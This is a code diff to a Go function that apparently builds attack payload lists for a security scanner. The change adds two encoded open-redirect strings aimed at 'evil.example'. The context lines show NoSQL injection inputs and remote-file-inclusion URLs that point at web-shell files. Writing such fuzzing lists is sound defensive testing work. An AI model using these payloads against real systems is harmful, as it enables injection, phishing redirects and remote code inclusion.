@@ -109,7 +109,7 @@ func grammarAttacks() map[string][]string {
 	m["nosqli"] = []string{`{"$ne": null}`, `{"$gt": ""}`, `{"$regex": ".*"}`, `{"$where": "sleep(100)"}`, `'; return true; var x='`, `{"$or": [{}, {"a": "a"}]}`, `{"$expr": {"$eq": [1, 1]}}`}
 
 	// Open redirects in redirect-like parameters (sent as "next").
-	m["redirect"] = []string{"/\\evil.example", "\\\\evil.example", "https:evil.example", "https:/evil.example", "https:///evil.example", "///evil.example", "//%2fevil.example", "/%09/evil.example", " //evil.example", "\t//evil.example", "https://trusted.example@evil.example", "javascript:alert(1)", "http:\\\\evil.example"}
+	m["redirect"] = []string{"/\\evil.example", "\\\\evil.example", "https:evil.example", "https:/evil.example", "https:///evil.example", "///evil.example", "//%2fevil.example", "/%09/evil.example", " //evil.example", "\t//evil.example", "https://trusted.example@evil.example", "javascript:alert(1)", "http:\\\\evil.example", "https://evil.example%2f@trusted.example", "https://evil.example%5c@trusted.example"}
 
 	// SSRF in fetch-like parameters (sent as "url").
 	m["rfi"] = []string{"http://203.0.113.5/shell.txt", "http://198.51.100.7:8080/x.php", "ftp://203.0.113.9/inc/c99.php?", "http://[2001:db8::1]/r57.txt"}
